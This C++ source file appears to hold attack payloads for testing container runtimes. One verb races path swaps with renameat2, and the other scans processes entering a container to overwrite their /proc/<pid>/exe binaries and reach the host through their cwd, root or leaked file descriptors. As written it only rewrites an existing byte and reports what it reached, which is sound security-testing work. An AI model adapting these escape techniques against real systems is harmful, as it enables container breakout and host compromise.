// Attackers of a runtime: one that keeps changing what a path is, and one that lives in a container
// and reaches for whatever a process that comes in brings along. They harm nothing: a file that can
// be overwritten gets the byte that it has.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>

#include "payload.h"

namespace payload {
namespace {

constexpr unsigned kExchange = 2;  // RENAME_EXCHANGE, <linux/fs.h>

void say(const std::string& line) {
  std::printf("%s\n", line.c_str());
  std::fflush(stdout);
}

// A B: puts each in the other's place, for ever.
int swapForEver(const Args& args) {
  say("ready");
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, args[0].c_str(), AT_FDCWD, args[1].c_str(), kExchange) < 0)
      return errno;
  }
}

struct Held {
  int fd;
  std::string link;
  int tries;
};

bool sameFile(int fd, const struct stat& other) {
  struct stat status;
  return fstat(fd, &status) == 0 && status.st_dev == other.st_dev && status.st_ino == other.st_ino;
}

// Writes the first byte that the file has over itself.
bool overwrite(int fd) {
  std::string link = "/proc/self/fd/" + std::to_string(fd);
  int out = open(link.c_str(), O_RDWR | O_CLOEXEC);
  if (out < 0) return false;
  char byte;
  bool done = pread(out, &byte, 1, 0) == 1 && pwrite(out, &byte, 1, 0) == 1;
  close(out);
  return done;
}

// From a directory upwards to its root, and down again to the marker.
bool reaches(const std::string& directory, const std::string& marker) {
  int at = open(directory.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (at < 0) return false;
  for (int level = 0; level < 64; level++) {
    int up = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (up < 0) break;
    close(at);
    at = up;
  }
  int found = openat(at, marker.c_str() + 1, O_RDONLY | O_CLOEXEC);
  close(at);
  if (found >= 0) close(found);
  return found >= 0;
}

std::vector<int> otherProcesses() {
  std::vector<int> out;
  std::string text;
  readFile("/proc/loadavg", text);
  size_t space = text.rfind(' ');
  int last = space == std::string::npos ? 0 : std::atoi(text.c_str() + space + 1);
  for (int pid = last > 6 ? last - 6 : 1; pid <= last + 3; pid++) {
    if (pid != getpid()) out.push_back(pid);
  }
  return out;
}

// What is open in a process, and where it stands.
void lookForHost(const std::string& process, const std::string& marker,
                 std::set<std::string>& told) {
  std::vector<std::string> ways = {process + "/cwd", process + "/root"};
  for (int fd = 3; fd < 64; fd++) ways.push_back(process + "/fd/" + std::to_string(fd));
  for (const std::string& way : ways) {
    if (!reaches(way, marker)) continue;
    std::string line = "reached the host by " + way.substr(process.size() + 1);
    if (told.insert(line).second) say(line);
  }
}

// MARKER: for ever. Says "overwritten ..." where the program of another process could be written
// to, "reached ..." where a directory of another process leads to the file MARKER of the host, and
// "met" when it has seen a process at all.
int grab(const Args& args) {
  struct stat own;
  if (stat("/proc/self/exe", &own) < 0) return errno;
  std::vector<Held> held;
  std::set<std::string> told;
  say("ready");
  for (;;) {
    for (int pid : otherProcesses()) {
      std::string process = "/proc/" + std::to_string(pid);
      if (access(process.c_str(), F_OK) < 0) continue;
      lookForHost(process, args[0], told);
      int fd = open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (sameFile(fd, own) || held.size() > 64) {
        close(fd);
        continue;
      }
      held.push_back({fd, readLink(process + "/exe"), 0});
      if (told.insert("met").second) say("met");
    }
    // While it runs it is busy (ETXTBSY): tried again for a while.
    for (size_t i = 0; i < held.size(); i++) {
      bool done = overwrite(held[i].fd);
      if (done && told.insert("o" + held[i].link).second) say("overwritten: " + held[i].link);
      if (!done && ++held[i].tries < 20000) continue;
      close(held[i].fd);
      held.erase(held.begin() + static_cast<long>(i--));
    }
  }
}

}  // namespace

const std::vector<ActVerb>& attackVerbs() {
  static const std::vector<ActVerb> verbs = {{"swap", 2, swapForEver}, {"grab", 1, grab}};
  return verbs;
}

}  // namespace payload
